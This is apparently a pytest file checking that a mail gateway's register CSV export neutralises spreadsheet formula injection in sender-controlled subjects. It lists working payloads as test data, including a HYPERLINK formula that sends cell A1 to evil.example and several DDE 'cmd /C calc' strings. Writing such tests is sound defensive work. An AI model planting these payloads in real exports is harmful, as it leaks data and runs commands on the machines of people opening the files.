"""Formula injection in the register CSV (issue 12, "Exports"): the subject, sender and
reference columns are the sender's text, and the CSV is made to be opened in Excel."""
from __future__ import annotations

import csv
import io

import pytest

from gateway.tools.csv_safe import neutralise_cell
from tests.letters import letter
from tests.tools_helpers import this_be_year

LAT = "saraban.latkrabang@bangkok.go.th"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"ดูรายละเอียด")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝HYPERLINK(\"http://evil.example\")",  # full-width equals sign
]


@pytest.mark.parametrize("value, shown", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("＠x", "'＠x"), ("  -x", "'  -x"),
    ("ขอเชิญประชุม", "ขอเชิญประชุม"), ("15/2569", "15/2569"), ("", ""), (None, None),
    ("a=b", "a=b"),  # only the first character can start a formula
])
def test_a_cell_that_could_start_a_formula_gets_a_leading_quote(value, shown):
    assert neutralise_cell(value) == shown


def test_register_csv_neutralises_hostile_subjects(daemon, tmp_path):
    for n, subject in enumerate(HOSTILE):
        daemon.send(letter(subject=subject, body="ขอส่งหนังสือ\n", message_id=f"<csv-{n}@dds.bangkok.go.th>"), LAT)
    daemon.wait_for(lambda: len(daemon.register()) == len(HOSTILE), what="letters registered")
    out = tmp_path / "lat.csv"
    daemon.cli("register", "export", "--unit", "saraban.latkrabang", "--year", str(this_be_year()),
               "--format", "csv", "-o", str(out))
    rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"))))
    subjects = [dict(zip(rows[0], row))["เรื่อง"] for row in rows[1:]]
    # What Excel reads: every hostile subject starts with the quote that makes it text,
    # and the rest of it is kept as the sender wrote it.
    assert sorted(subjects) == sorted("'" + s for s in HOSTILE)
    for row in rows:
        for cell in row:
            assert not cell.lstrip(" ").startswith(("=", "+", "@", "\t", "\r", "＝")), cell
